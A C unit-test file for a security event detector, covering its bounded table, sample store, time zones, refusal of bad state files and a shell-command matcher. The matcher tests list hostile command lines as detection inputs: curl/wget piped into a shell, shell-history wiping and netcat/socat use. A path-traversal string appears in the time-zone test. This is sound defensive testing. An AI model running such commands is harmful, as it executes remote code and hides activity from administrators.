/*
 * The detector's parts: the bounded table (LRU, SLRU protection, expiry),
 * the sample store, time zones, refusing bad saved state, and the command
 * line reader of commands_of_interest.
 * Rules themselves are tested as data (detect_data.c).
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "config/config.h"
#include "detect/cmdline.h"
#include "detect/detect.h"
#include "detect/sample.h"
#include "detect/table.h"
#include "event/json.h"
#include "util/tz.h"

static const struct ps_sipkey sip = { 1, 2 };

static void *put(struct ps_table *t, uint32_t k, int64_t now)
{
	uint64_t h = ps_table_hash(t, &k);
	void *v = ps_table_find(t, &k, h, now);
	return v ? v : ps_table_insert(t, &k, h, now);
}

static bool has(struct ps_table *t, uint32_t k)
{
	return ps_table_find(t, &k, ps_table_hash(t, &k), 0) != NULL;
}

static void test_table_lru(void **state)
{
	(void)state;
	struct ps_table *t = ps_table_new(10, sizeof(uint32_t), 16, &sip, NULL);
	assert_non_null(t);
	for (uint32_t k = 1; k <= 10; k++)
		memset(put(t, k, k), (int)k, 16);
	assert_int_equal(ps_table_count(t), 10);
	assert_int_equal(ps_table_evictions(t), 0);
	/* Full: the least recently used goes, and a new value starts zeroed. */
	unsigned char *v = put(t, 11, 11);
	for (int i = 0; i < 16; i++)
		assert_int_equal(v[i], 0);
	assert_int_equal(ps_table_evictions(t), 1);
	assert_false(has(t, 1));
	assert_true(has(t, 2));
	uint32_t key = 2;
	assert_memory_equal(ps_table_key(t, ps_table_find(t, &key, ps_table_hash(t, &key), 12)), &key, 4);
	ps_table_free(t);
}

static void test_table_protected(void **state)
{
	(void)state;
	struct ps_table *t = ps_table_new(100, sizeof(uint32_t), 8, &sip, NULL);
	/* Seen twice: protected from a flood of keys seen once. */
	put(t, 1, 0);
	put(t, 1, 0);
	for (uint32_t k = 1000; k < 100000; k++)
		put(t, k, 1);
	assert_true(has(t, 1));
	assert_int_equal(ps_table_count(t), 100);
	/* The protected segment is at most 4/5 of the table: a flood of keys
	 * seen twice still leaves room for new ones, and evicts old ones. */
	for (uint32_t k = 200000; k < 200500; k++) {
		put(t, k, 2);
		put(t, k, 2);
	}
	assert_false(has(t, 1));
	assert_true(has(t, 200499));
	ps_table_free(t);
}

static uint64_t same_hash(const struct ps_sipkey *k, const void *key)
{
	(void)k, (void)key;
	return 42;
}

/* Keys of every length the rules use, all of one hash: found by their
 * bytes, each of which tells two keys apart (find compares keys of 16 to
 * 24 bytes in words, and others with memcmp). */
static void test_table_keys(void **state)
{
	(void)state;
	static const size_t sizes[] = { 4, 16, 17, 18, 24, 25, 56 };
	for (size_t s = 0; s < sizeof(sizes) / sizeof(sizes[0]); s++) {
		size_t n = sizes[s];
		struct ps_table *t = ps_table_new(64, n, 8, &sip, same_hash);
		unsigned char key[56] = { 0 };
		assert_non_null(t);
		*(size_t *)ps_table_insert(t, key, 42, 0) = SIZE_MAX;
		for (size_t i = 0; i < n; i++) {
			key[i] = 1;
			*(size_t *)ps_table_insert(t, key, 42, 0) = i;
			key[i] = 0;
		}
		for (size_t i = 0; i < n; i++) {
			key[i] = 1;
			size_t *v = ps_table_find(t, key, 42, 1);
			assert_non_null(v);
			assert_int_equal(*v, i);
			key[i] = 0;
		}
		assert_int_equal(*(size_t *)ps_table_find(t, key, 42, 1), SIZE_MAX);
		key[n - 1] = 2;
		assert_null(ps_table_find(t, key, 42, 1));
		ps_table_free(t);
	}
}

static void test_table_stale(void **state)
{
	(void)state;
	struct ps_table *t = ps_table_new(8, sizeof(uint32_t), 8, &sip, NULL);
	put(t, 1, 100);
	put(t, 2, 200);
	put(t, 3, 300);
	put(t, 1, 400); /* touched again: no longer the oldest */
	void *v = ps_table_stale(t, 250);
	assert_non_null(v);
	assert_int_equal(*(const uint32_t *)ps_table_key(t, v), 2);
	ps_table_remove(t, v);
	v = ps_table_stale(t, 250);
	assert_null(v);
	assert_int_equal(ps_table_count(t), 2);
	/* Iteration: least recently used first. */
	uint32_t order[4], n = 0;
	for (void *e = ps_table_next(t, NULL); e; e = ps_table_next(t, e))
		order[n++] = *(const uint32_t *)ps_table_key(t, e);
	assert_int_equal(n, 2);
	assert_int_equal(order[0], 3);
	assert_int_equal(order[1], 1);
	ps_table_clear(t);
	assert_int_equal(ps_table_count(t), 0);
	assert_false(has(t, 3));
	put(t, 9, 0);
	assert_true(has(t, 9));
	ps_table_free(t);
}

static void test_samples(void **state)
{
	(void)state;
	struct ps_samples *s = ps_samples_new(2);
	struct ps_event ev, c;
	char big[2000];
	memset(big, 'm', sizeof(big));
	ps_event_init(&ev);
	ev.kind = PS_KIND_AUTH_FAILURE;
	ev.time_us = 123;
	ev.login_uid = 1000;
	ev.src_port = 22;
	ps_ip_parse(PS_LIT("2001:db8::1"), &ev.src_ip);
	ev.user = PS_LIT("alice");
	ev.tty = PS_LIT(""); /* set but empty stays set */
	ev.message = ps_str(big, sizeof(big));
	/* A host name past the field limit, ending in a multibyte character. */
	char name[PS_SAMPLE_FIELD_MAX + 2];
	memset(name, 'n', sizeof(name));
	memcpy(name + PS_SAMPLE_FIELD_MAX - 1, "\xc3\xa9", 2);
	ev.host = ps_str(name, sizeof(name) - 1);
	struct ps_str json;
	uint32_t a = ps_samples_put(s, &ev, (struct ps_str){ 0 });
	assert_true(ps_samples_json(s, a, &json));
	assert_false(ps_set(json)); /* a copy of the fields */
	assert_true(ps_samples_get(s, a, &c, &json));
	assert_false(ps_set(json));
	assert_true(ps_eq_lit(c.user, "alice"));
	assert_true(ps_set(c.tty) && c.tty.n == 0);
	assert_false(ps_set(c.command));
	assert_int_equal(c.host.n, PS_SAMPLE_FIELD_MAX - 1); /* not split inside the é */
	assert_true(c.message.n > 0 && c.message.n < PS_SAMPLE_SLOT);
	assert_true(c.user.p != ev.user.p); /* a copy */
	assert_int_equal(c.time_us, 123);
	assert_int_equal(c.login_uid, 1000);
	assert_int_equal(c.src_port, 22);
	assert_int_equal(c.kind, PS_KIND_AUTH_FAILURE);
	assert_memory_equal(&c.src_ip, &ev.src_ip, sizeof(ev.src_ip));
	uint32_t b = ps_samples_put(s, &ev, (struct ps_str){ 0 });
	assert_true(ps_samples_get(s, b, &c, &json));
	ps_samples_put(s, &ev, (struct ps_str){ 0 });
	assert_false(ps_samples_get(s, a, &c, &json)); /* overwritten: gone, not wrong */
	assert_false(ps_samples_get(s, 0, &c, &json));
	ps_samples_free(s);
}

/* ev as an alert shows it. */
static char *sample_json(const struct ps_event *ev)
{
	struct ps_out o;
	ps_out_init_mem(&o);
	ps_event_write_json(&o, ev, PS_JSON_NO_NEWLINE);
	ps_out_putc(&o, '\0');
	assert_int_equal(o.error, 0);
	return o.buf;
}

/* An exact copy keeps the JSON it was put with; that JSON is the copy's own
 * (what makes showing those bytes in alerts right), for every field. */
static void test_samples_json(void **state)
{
	(void)state;
	struct ps_samples *s = ps_samples_new(16);
	struct ps_event ev, c;
	struct ps_str json;
	ps_event_init(&ev);
	char *base = (char *)&ev;
	/* Every text field set, a different short value each. */
	static char values[64][8];
	size_t k;
	const size_t texts[] = {
		offsetof(struct ps_event, host), offsetof(struct ps_event, service), offsetof(struct ps_event, program),
		offsetof(struct ps_event, exe), offsetof(struct ps_event, cmdline), offsetof(struct ps_event, sender_exe),
		offsetof(struct ps_event, sender_comm), offsetof(struct ps_event, user),
		offsetof(struct ps_event, target_user), offsetof(struct ps_event, login_user),
		offsetof(struct ps_event, src_host), offsetof(struct ps_event, src_geo.country_iso_code),
		offsetof(struct ps_event, src_geo.country_name), offsetof(struct ps_event, src_geo.city_name),
		offsetof(struct ps_event, src_as.organization), offsetof(struct ps_event, src_provider),
		offsetof(struct ps_event, src_rdns), offsetof(struct ps_event, method), offsetof(struct ps_event, key),
		offsetof(struct ps_event, tty), offsetof(struct ps_event, cwd), offsetof(struct ps_event, command),
		offsetof(struct ps_event, input), offsetof(struct ps_event, session), offsetof(struct ps_event, group),
		offsetof(struct ps_event, actor), offsetof(struct ps_event, audit_type), offsetof(struct ps_event, detail),
		offsetof(struct ps_event, source), offsetof(struct ps_event, file), offsetof(struct ps_event, message),
	};
	for (k = 0; k < sizeof(texts) / sizeof(texts[0]); k++) {
		snprintf(values[k], sizeof(values[k]), "v\"%zu", k); /* a quote: escaped output */
		*(struct ps_str *)(void *)(base + texts[k]) = ps_cstr(values[k]);
	}
	ev.time_us = 1767225600123456;
	ev.kind = PS_KIND_AUTH_FAILURE;
	ev.outcome = PS_OUTCOME_FAILURE;
	ev.reason = PS_REASON_BAD_PASSWORD;
	ev.pid = 41;
	ev.ppid = 1;
	ev.sender_uid = 7;
	ev.login_uid = 1000;
	ps_ip_parse(PS_LIT("2001:db8::1"), &ev.src_ip);
	ps_ip_parse(PS_LIT("192.0.2.1"), &ev.dst_ip);
	ev.src_port = 50000;
	ev.dst_port = 22;
	ev.src_as.number = 64500;
	ev.duration_s = 3;
	ev.action = (enum ps_action)(PS_ACTION__COUNT - 1);
	ev.count = 3;
	ev.ambiguous = true;
	ev.line = 12;
	char *want = sample_json(&ev);

	/* Given its JSON, the copy is that JSON, and the event read back
	 * from it is the event, every field (enrichment included). */
	uint32_t a = ps_samples_put(s, &ev, ps_cstr(want));
	assert_true(ps_samples_json(s, a, &json));
	assert_true(ps_eq(json, ps_cstr(want)));
	assert_true(ps_samples_get(s, a, &c, &json));
	assert_true(ps_eq(json, ps_cstr(want)));
	char *copy = sample_json(&c);
	assert_string_equal(copy, want);
	free(copy);
	/* The same made of fields (no JSON given). */
	uint32_t f = ps_samples_put(s, &ev, (struct ps_str){ 0 });
	assert_true(ps_samples_get(s, f, &c, &json));
	assert_false(ps_set(json));
	copy = sample_json(&c);
	assert_string_equal(copy, want);
	free(copy);

	/* Parents, which a copy of the fields leaves out, are in the JSON. */
	struct ps_proc_chain chain = { .n = 1, .v = { { .pid = 7, .comm = PS_LIT("sh"), .via_proc = true } } };
	ev.parents = &chain;
	char *with_parents = sample_json(&ev);
	uint32_t p = ps_samples_put(s, &ev, ps_cstr(with_parents));
	assert_true(ps_samples_get(s, p, &c, &json));
	copy = sample_json(&c);
	assert_string_equal(copy, with_parents);
	free(copy);
	free(with_parents);
	ev.parents = NULL;

	/* A copy whose JSON the ring has overwritten is gone, like an
	 * overwritten slot: never a wrong text. */
	static char longer[1000];
	memset(longer, 'j', sizeof(longer));
	a = ps_samples_put(s, &ev, ps_str(longer, sizeof(longer)));
	for (int i = 0; i < 9; i++)
		ps_samples_put(s, &ev, ps_str(longer, sizeof(longer)));
	assert_false(ps_samples_json(s, a, &json));
	assert_false(ps_samples_get(s, a, &c, &json));
	uint32_t last = ps_samples_put(s, &ev, ps_str(longer, sizeof(longer)));
	assert_true(ps_samples_json(s, last, &json));
	assert_true(ps_eq(json, ps_str(longer, sizeof(longer))));
	assert_false(ps_samples_get(s, last, &c, &json)); /* not an event's JSON: shown, never read back */
	/* Too long for the ring: the fields are copied instead. */
	static char huge[16 * 512];
	memset(huge, 'h', sizeof(huge));
	uint32_t h = ps_samples_put(s, &ev, ps_str(huge, sizeof(huge)));
	assert_true(ps_samples_get(s, h, &c, &json));
	assert_false(ps_set(json));
	assert_true(ps_eq(c.message, ev.message));
	free(want);
	ps_samples_free(s);
}

static void test_tz(void **state)
{
	(void)state;
	struct ps_tz *tz;
	/* Europe/Paris: CET +1, CEST +2 from the last Sunday of March 01:00 UTC. */
	assert_int_equal(ps_tz_load("Europe/Paris", &tz), 0);
	assert_int_equal(ps_tz_offset(tz, 1795255200), 3600);     /* 2026-11-21 */
	assert_int_equal(ps_tz_offset(tz, 1774746000 - 1), 3600); /* 2026-03-29 00:59:59 UTC */
	assert_int_equal(ps_tz_offset(tz, 1774746000), 7200);     /* 01:00:00 UTC */
	/* Far past the file's transitions: the footer's rule. */
	assert_int_equal(ps_tz_offset(tz, 4102444800 + 180 * 86400), 7200); /* 2100, summer */
	ps_tz_free(tz);
	assert_int_equal(ps_tz_load("America/New_York", &tz), 0);
	assert_int_equal(ps_tz_offset(tz, 1795255200), -5 * 3600);
	ps_tz_free(tz);
	/* A POSIX TZ string: US rules, second Sunday of March 2026 is the 8th. */
	assert_int_equal(ps_tz_load("EST5EDT,M3.2.0,M11.1.0", &tz), 0);
	assert_int_equal(ps_tz_offset(tz, 1772953200 - 1), -5 * 3600); /* 2026-03-08 06:59:59 UTC */
	assert_int_equal(ps_tz_offset(tz, 1772953200), -4 * 3600);
	ps_tz_free(tz);
	assert_int_equal(ps_tz_load("UTC", &tz), 0);
	assert_int_equal(ps_tz_offset(tz, 0), 0);
	ps_tz_free(tz);
	assert_int_equal(ps_tz_load("<+0530>-5:30", &tz), 0);
	assert_int_equal(ps_tz_offset(tz, 0), 19800);
	ps_tz_free(tz);
	/* Nothing outside the zone directory, nothing that is not a zone. */
	assert_int_equal(ps_tz_load("Nowhere/City", &tz), -ENOENT);
	assert_int_equal(ps_tz_load("../../etc/passwd", &tz), -ENOENT);
	assert_int_equal(ps_tz_load("/etc/passwd", &tz), -EINVAL);
}

static int count_alert(const struct ps_alert *a, void *arg)
{
	(void)a;
	(*(int *)arg)++;
	return 0;
}

static void test_state_refused(void **state)
{
	(void)state;
	struct ps_config cfg;
	struct ps_detector *d;
	char err[200];
	static const struct {
		const char *text, *error;
	} bad[] = {
		{ "", "line 0: empty file" },
		{ "something else\n", "line 1: not a pamsignal detector state file" },
		{ "pamsignal-detect\t2\nend\n", "line 1: a state version this pamsignal does not read" },
		{ "pamsignal-detect\t1\nclock\t5\n", "line 2: no end line (the file was cut short)" },
		{ "pamsignal-detect\t1\nentry\tbrute_force\tzz\nend\n", "line 2: bad key" },
		{ "pamsignal-detect\t1\nentry\tnew_source\t00\nend\n", "line 2: history saved as an entry" },
	};
	ps_config_defaults(&cfg);
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		assert_int_equal(ps_detector_new(&cfg, &d), 0);
		FILE *f = *bad[i].text ? fmemopen((void *)(uintptr_t)bad[i].text, strlen(bad[i].text), "r")
				       : fopen("/dev/null", "r");
		assert_int_equal(ps_detector_load(d, f, err, sizeof(err)), -EINVAL);
		assert_string_equal(err, bad[i].error);
		fclose(f);
		ps_detector_free(d);
	}
	/* Only into a fresh detector; a later version's lines and rules are skipped. */
	assert_int_equal(ps_detector_new(&cfg, &d), 0);
	struct ps_event ev;
	int n = 0;
	ps_event_init(&ev);
	ev.kind = PS_KIND_PROBE;
	ps_detector_feed(d, &ev, count_alert, &n);
	const char *ok = "pamsignal-detect\t1\nfuture\tx\nentry\tfuture_rule\t00\nend\n";
	FILE *f = fmemopen((void *)(uintptr_t)ok, strlen(ok), "r");
	assert_int_equal(ps_detector_load(d, f, err, sizeof(err)), -EBUSY);
	fclose(f);
	ps_detector_free(d);
	assert_int_equal(ps_detector_new(&cfg, &d), 0);
	f = fmemopen((void *)(uintptr_t)ok, strlen(ok), "r");
	assert_int_equal(ps_detector_load(d, f, err, sizeof(err)), 0);
	fclose(f);
	ps_detector_free(d);
	ps_config_free(&cfg);
}

static void test_disabled(void **state)
{
	(void)state;
	struct ps_config cfg;
	struct ps_detector *d;
	struct ps_event ev;
	int n = 0;
	ps_config_defaults(&cfg);
	for (int r = 0; r < PS_RULE__COUNT; r++)
		cfg.detect.rule[r].enabled = false;
	assert_int_equal(ps_detector_new(&cfg, &d), 0);
	ps_event_init(&ev);
	ev.kind = PS_KIND_AUTH_SUCCESS;
	ev.user = PS_LIT("root");
	ev.time_us = 0;
	ps_detector_feed(d, &ev, count_alert, &n);
	ps_detector_flush(d, count_alert, &n);
	assert_int_equal(n, 0);
	struct ps_detector_stats st;
	ps_detector_stats(d, &st);
	assert_int_equal(st.events, 1);
	assert_int_equal(st.capacity, 0);
	ps_detector_free(d);
	ps_config_free(&cfg);
}

/* What ps_cmd_find finds in a text: its labels, space-separated, in order. */
static void labels(const char *text, char *buf, size_t size)
{
	static const struct ps_cmd_rules rules = { ps_cmd_default_tools, 9, true, true };
	struct ps_cmd_match m[4];
	size_t n = ps_cmd_find(&rules, ps_cstr(text), m, 4), len = 0;
	buf[0] = '\0';
	for (size_t i = 0; i < n; i++) {
		struct ps_str l = ps_cmd_label(&m[i]);
		len += (size_t)snprintf(buf + len, size - len, "%s%.*s", i ? " " : "", (int)l.n, l.p);
	}
}

static void test_cmdline(void **state)
{
	(void)state;
	static const struct { const char *text, *want; } cases[] = {
		/* Programs of the list, by base name, past wrappers and assignments. */
		{ "nmap -sS 192.0.2.0/24", "nmap" },
		{ "/usr/bin/ss -tlnp", "ss" },
		{ "sudo -u bob -- tcpdump -i any port 22", "tcpdump" },
		{ "LANG=C timeout 5 nc -z 192.0.2.1 22", "nc" },
		{ "env -i FOO=1 nice -n 5 lsof -i", "lsof" },
		{ "if true; then netstat -an; fi", "netstat" },
		{ "echo ss nmap; git commit -m 'nmap'", "" },
		{ "ls; ncat -l 4444 & socat - tcp:192.0.2.1:80", "ncat socat" },
		{ "xargs -n1 nc -zv < hosts", "nc" },
		/* A download into a shell. */
		{ "curl -fsSL https://example.org/i.sh | sh", "download_to_shell" },
		{ "wget -qO- http://192.0.2.1/x | sudo bash -s -- -y", "download_to_shell" },
		{ "curl -s http://192.0.2.1/x | tee /tmp/x | bash", "download_to_shell" },
		{ "bash <(curl -s http://192.0.2.1/x)", "download_to_shell" },
		{ "sh -c \"$(wget -O- http://192.0.2.1/x)\"", "download_to_shell" },
		{ "bash -c 'curl -s http://192.0.2.1/x | sh'", "download_to_shell" },
		{ "echo \"$(curl -s http://192.0.2.1/x)\" | sh", "download_to_shell" },
		{ "su -c 'curl http://192.0.2.1/x | sh' root", "download_to_shell" },
		{ "sh `curl -s http://192.0.2.1/x`", "download_to_shell" },
		{ "curl -o x.sh http://192.0.2.1/x; sh x.sh", "" },
		{ "curl http://192.0.2.1/x | grep sh; cat | sh", "" },
		{ "echo 'curl x | sh'", "" },
		/* History clearing. */
		{ "history -c", "history_clearing" },
		{ "history -cw", "history_clearing" },
		{ "unset HISTFILE", "history_clearing" },
		{ "export HISTFILE=/dev/null", "history_clearing" },
		{ "HISTSIZE=0", "history_clearing" },
		{ "export HISTFILESIZE=0 HISTSIZE=0", "history_clearing" },
		{ "set +o history", "history_clearing" },
		{ "rm -f ~/.bash_history", "history_clearing" },
		{ "shred -u /root/.zsh_history", "history_clearing" },
		{ "ln -sf /dev/null ~/.bash_history", "history_clearing" },
		{ "cat /dev/null > ~/.bash_history", "history_clearing" },
		{ ">~/.bash_history", "history_clearing" },
		{ "echo hi >> ~/.bash_history; history; export HISTSIZE=1000; cat .bash_history", "" },
		/* Typed input: lines end with CR; several findings in one text, each once. */
		{ "id\rnmap -p22 192.0.2.0/24\rhistory -c\rnmap 198.51.100.1\r", "nmap history_clearing" },
		/* Oddities: unclosed quotes and substitutions, operators alone. */
		{ "nmap 'unclosed", "nmap" },
		{ "bash <(curl http://192.0.2.1/x", "download_to_shell" },
		{ "| ; && ) ( ` $( <(", "" },
		{ "", "" },
	};
	char got[256];
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		labels(cases[i].text, got, sizeof(got));
		if (strcmp(got, cases[i].want) != 0)
			fail_msg("'%s': found '%s', want '%s'", cases[i].text, got, cases[i].want);
	}
	/* Padding does not hide what follows: a thousand words, then the command. */
	static char padded[4096];
	size_t len = 0;
	for (int i = 0; i < 1000; i++)
		len += (size_t)snprintf(padded + len, sizeof(padded) - len, "x ");
	snprintf(padded + len, sizeof(padded) - len, "; nmap 192.0.2.1");
	labels(padded, got, sizeof(got));
	assert_string_equal(got, "nmap");

	/* One command line, however it is seen, hashes the same. */
	static const struct ps_cmd_rules rules = { ps_cmd_default_tools, 9, true, true };
	struct ps_cmd_match a, b;
	assert_int_equal(ps_cmd_find(&rules, PS_LIT("sudo /usr/bin/nmap -sS 192.0.2.1"), &a, 1), 1);
	assert_int_equal(ps_cmd_find(&rules, PS_LIT("nmap -sS '192.0.2.1'"), &b, 1), 1);
	assert_true(a.hash == b.hash);
	assert_int_equal(ps_cmd_find(&rules, PS_LIT("nmap -sS 192.0.2.2"), &b, 1), 1);
	assert_true(a.hash != b.hash);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_table_lru),  cmocka_unit_test(test_table_protected),
		cmocka_unit_test(test_table_stale), cmocka_unit_test(test_table_keys), cmocka_unit_test(test_samples), cmocka_unit_test(test_samples_json),
		cmocka_unit_test(test_tz),         cmocka_unit_test(test_state_refused),
		cmocka_unit_test(test_disabled),   cmocka_unit_test(test_cmdline),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
